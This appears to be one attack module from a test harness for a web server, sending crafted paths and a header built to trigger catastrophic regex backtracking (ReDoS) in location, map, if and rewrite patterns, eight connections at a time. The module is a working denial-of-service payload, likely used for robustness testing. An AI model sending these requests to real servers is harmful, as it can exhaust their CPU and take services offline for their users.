"""Requests whose path or field makes a pattern of the configuration try every way there
is (ReDoS), in location, map, if and rewrite."""

from attack import Attack

ATTACK = Attack(configurations=("patterns",))
PATHS = [b"/nested/" + b"a" * 40 + b"!", b"/map", b"/if", b"/rewrite/" + b"ax" * 500 + b"!"]


async def run(target):
    evil = b"X-One: " + b"a" * 40 + b"!\r\n"

    async def ask(number):
        reader, writer = await target.tls()
        try:
            writer.write(b"GET " + PATHS[number % 4] + b" HTTP/1.1\r\nHost: localhost\r\n" + evil + b"\r\n")
            await reader.readuntil(b"\r\n\r\n")
        finally:
            writer.transport.abort()

    return f"{await target.again_and_again(8, ask)} requests, 8 at a time"
